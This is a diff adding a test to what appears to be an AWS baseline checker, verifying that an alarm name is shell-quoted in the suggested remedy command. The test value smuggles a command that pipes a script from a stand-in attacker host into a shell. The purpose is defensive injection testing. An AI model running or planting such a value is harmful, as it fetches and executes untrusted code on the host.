@@ -1664,6 +1664,14 @@ test('actions of an alarm that were switched off are switched on by name', () =>
   expect(finding?.remedy?.command).toBe('aws cloudwatch enable-alarm-actions --alarm-names Baseline-Root');
 });
 
+test('the name of an alarm adds nothing to the command', () => {
+  const AlarmName = 'AccountBaseline-!;curl https://evil.example|sh;';
+  const [finding] = findings(withAlarm({ ActionsEnabled: false, AlarmName })).filter(
+    ({ check }) => check === 'alarms',
+  );
+  expect(finding?.remedy?.command).toBe(`aws cloudwatch enable-alarm-actions --alarm-names '${AlarmName}'`);
+});
+
 test('an existing log group is judged by the trail that writes to it', () => {
   const config = { ...CONFIG, auditTrail: { ...CONFIG.auditTrail, existingLogGroup: 'other' } };
   const change = withTrail({
